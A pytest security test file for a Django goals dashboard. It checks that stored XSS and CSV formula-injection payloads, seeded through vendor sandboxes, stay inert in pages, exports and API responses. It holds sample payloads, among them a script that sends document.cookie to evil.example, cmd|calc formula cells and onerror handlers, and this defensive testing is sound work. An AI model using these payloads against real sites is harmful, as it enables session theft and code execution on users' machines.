"""Stored XSS and formula injection: vendor titles, names and descriptions carrying script
payloads (the OGSM sandbox's malicious action, Operately's XSS goal, North's script titles,
plus formula payloads added here) are synced over real HTTP and must render inert on every
page, be neutralised in every CSV export, and come out of the API as JSON data."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any

import pytest
from django.test import Client

from dashboard.accounts.tokens import create_token
from dashboard.alignment.models import Alignment, AlignmentSuggestion
from dashboard.okrs.models import Goal, KeyResult, Team, WorkItem
from dashboard.people.models import Identity, NameMatchProposal
from tests.factories import AdminFactory
from tests.reliability.helpers import connect, sync
from tests.security.test_access import ACTING_ROUTES, body_of, param_values
from tests.security.urls import project_routes

pytestmark = pytest.mark.django_db

# Text that only a payload contains: if any of it lands in live script, an event handler or a
# javascript: URL, the payload is live.
PAYLOAD_WORDS = ("alert(", "document.cookie", "steal()", "pwned", "evil.example", "x()", "calc")
FORMULA_TITLES = (
    '=HYPERLINK("https://evil.example/?leak","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
HTML_TITLE = "<img src=x onerror=alert('title')><script>alert('t')</script>"
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post")


class LiveCode(HTMLParser):
    """Collects everything in a page that a browser would run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("iframe", "object", "embed", "frame"):
            self.live.append(f"<{tag} {attrs}>")
        if tag == "script":
            self._in_script = True
        for name, value in attrs:
            value = value or ""
            compact = "".join(value.split()).lower()
            if (
                name.startswith("on")
                or name == "style"
                or (name in URL_ATTRIBUTES and compact.startswith(("javascript:", "data:text/html")))
            ):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and compact.startswith("javascript:"):
                self.live.append(f"javascript URL in <{tag} {name}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.live.append(data)


def live_payloads(html: str) -> list[str]:
    parser = LiveCode()
    parser.feed(html)
    return [code for code in parser.live if any(word in code for word in PAYLOAD_WORDS)]


@pytest.fixture
def hostile_world(sandbox_factory) -> SimpleNamespace:
    """OGSM, Operately and North synced from their sandboxes, with hostile text in every field
    the vendors let a user type into."""
    ogsm, ogsm_server = sandbox_factory("ogsm", seed=1, size="small")
    with ogsm.state.lock:
        actions = sorted(ogsm.state.actions)
        for action_id, title in zip(actions[10:], (*FORMULA_TITLES, HTML_TITLE), strict=False):
            ogsm.state.actions[action_id]["title"] = title
        ogsm.state.actions[actions[15]]["assignee"] = {"name": "=cmd|' /C calc'!A0 <script>alert('owner')</script>"}
        ogsm.state.actions[actions[15]]["labels"] = [{"name": "<b onmouseover=alert('label')>label</b>"}]
    c = connect(ogsm, ogsm_server, username="reader")
    assert sync(c.credential).status == "succeeded"
    credentials = [c.credential]
    for vendor, size in (("operately", 1), ("north", "small")):
        sandbox, server = sandbox_factory(vendor, seed=1, size=size)
        other = connect(sandbox, server, username=f"reader-{vendor}")
        other.credential.owner = c.user
        other.credential.save()
        run = sync(other.credential)
        assert run.status in ("succeeded", "partial"), f"{vendor}: {run.error}"
        credentials.append(other.credential)
    malicious = WorkItem.objects.get(connector=c.connector, title="Plan the Q3 campaign")
    assert "<script" not in malicious.description  # sanitised when stored...
    xss_goal = Goal.objects.filter(title__contains="<script>").first()
    assert xss_goal is not None, "no vendor goal with a script title was synced"
    token = create_token(c.user, "xss")
    # The script-titled goal aligned under another tool's team and goal: the tree and goal pages show it in place (issue #18).
    other_team = Team.objects.exclude(connector=xss_goal.connector).order_by("pk").first()
    other_goal = Goal.objects.exclude(connector=xss_goal.connector).order_by("pk").first()
    Alignment.objects.create(child_goal=xss_goal, parent_team=other_team, created_by=c.user)
    suggestion = AlignmentSuggestion.objects.create(child_goal=other_goal, parent_goal=xss_goal, score=80.0, reasons=[HTML_TITLE])
    # People across vendors (issue #18): the hostile OGSM owner name is a person of its own.
    identity = Identity.objects.filter(name__contains="<script>").first()
    assert identity is not None, "the hostile owner name was not linked as a person after the syncs"
    other = Identity.objects.exclude(pk=identity.pk).order_by("pk").first()
    assert other is not None
    proposal = NameMatchProposal.objects.create(member=identity.members.get(), identity=other)
    return SimpleNamespace(
        suggestion=suggestion, identity=identity, proposal=proposal,
        client=c.client, user=c.user, token=token.raw, victor_token_id=token.token.pk,
        goal=xss_goal, team=Team.objects.order_by("pk").first(),  # for the URLs with a team id (tests/security/test_access.py)
        action=malicious, key_result=KeyResult.objects.first(), project=WorkItem.objects.filter(kind="project").first(),
        task=WorkItem.objects.filter(kind="task").first(), victor_credential=credentials[0], shared_credential=credentials[0],
        connector=c.connector,
    )  # fmt: skip


def test_vendor_payloads_render_inert_on_every_page(hostile_world):
    """Must hold: no payload runs on any page (lists, details, forms, htmx fragments), while the
    hostile titles are still shown to the user as text."""
    client: Client = hostile_world.client
    pages = []
    for route in project_routes():
        if route.name in ACTING_ROUTES or route.template.startswith("api/"):
            continue
        url = route.url(param_values(route, hostile_world))
        pages += [(url, {}), (url, {"HTTP_HX_REQUEST": "true"})]
    pages += [("/search/?q=script", {}), ("/search/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}), ("/goals/?q=HYPERLINK", {})]
    problems = {}
    shown_as_text = False
    for url, headers in pages:
        response = client.get(url, **headers)
        assert response.status_code < 500, f"GET {url} answered {response.status_code}"
        if response.get("Content-Type", "").startswith("text/html"):
            html = body_of(response)
            found = live_payloads(html)
            if found:
                problems[url + (" (htmx)" if headers else "")] = found[:3]
            shown_as_text = shown_as_text or "&lt;script&gt;alert(" in html
    assert problems == {}
    assert shown_as_text, "the hostile titles should still be visible, escaped"
    assert "Plan the Q3 campaign" in body_of(client.get("/actions/?q=Plan+the+Q3"))  # the malicious action is listed


ADMIN_ONLY_EXPORTS = {"audit/changes.csv"}  # the audit trail: members get 404 (tests/audit)


def test_csv_exports_neutralise_formulas_and_keep_the_text(hostile_world):
    """Must hold: no cell of any export starts with = + - @ (or tab/CR) unless it is a number;
    the formula titles are still there, as text."""
    exports = [r for r in project_routes() if r.template.endswith(".csv")]
    assert len(exports) >= 4
    admin = Client()
    admin.force_login(AdminFactory(username="xss-admin"))
    seen_neutralised = set()
    for route in exports:
        query = "?q=cmd" if "search" in route.template else "?per_page=500"  # search exports need a query
        client = admin if route.template in ADMIN_ONLY_EXPORTS else hostile_world.client
        response = client.get(route.url({}) + query)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), route.template
        rows = list(csv.reader(io.StringIO(body_of(response).lstrip("\ufeff"))))
        assert len(rows) > 1, f"{route.template} exported no rows"
        for row in rows:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(cell)
                    except ValueError:
                        pytest.fail(f"{route.template}: live formula cell {cell!r}")
                if cell.startswith("'") and cell[1:] in FORMULA_TITLES:
                    seen_neutralised.add(cell[1:])
    assert seen_neutralised == set(FORMULA_TITLES)


def test_the_api_returns_payloads_as_json_data(hostile_world):
    """Must hold: JSON with the JSON content type and nosniff (a browser never renders it as
    HTML); sanitised descriptions; titles as plain strings."""
    client = Client()
    auth = {"HTTP_AUTHORIZATION": f"Bearer {hostile_world.token}"}
    for url in (f"/api/v1/goals/{hostile_world.goal.pk}", "/api/v1/goals?limit=500", "/api/v1/work-items?limit=500&q=Plan"):
        response = client.get(url, **auth)
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/json") and response["X-Content-Type-Options"] == "nosniff"
        body = json.loads(response.content)
        text = json.dumps(body)
        assert "<script" not in json.dumps(_descriptions(body))
        assert body is not None and text
    goal = client.get(f"/api/v1/goals/{hostile_world.goal.pk}", **auth).json()
    assert goal["title"] == hostile_world.goal.title  # the data, unchanged; escaping is the renderer's job


def _descriptions(body: Any) -> list[Any]:
    found = []
    if isinstance(body, dict):
        for key, value in body.items():
            if key == "description":
                found.append(value)
            else:
                found += _descriptions(value)
    elif isinstance(body, list):
        for value in body:
            found += _descriptions(value)
    return found


@pytest.mark.parametrize(
    "html",
    [
        "<img src=x onerror=\"alert('pwned')\">",
        "<script>document.location='https://evil.example/?c='+document.cookie</script>",
        '<a href=" javascript:alert(1)">x</a>',
        '<p style="background:url(javascript:alert(2))">x</p>',
        '<iframe src="https://evil.example"></iframe>',
    ],
)
def test_the_live_code_detector_catches_each_payload_shape(html):
    """The check above can fail: each raw payload, unescaped, is reported as live."""
    assert live_payloads(html)
    assert live_payloads(html.replace("<", "&lt;")) == []
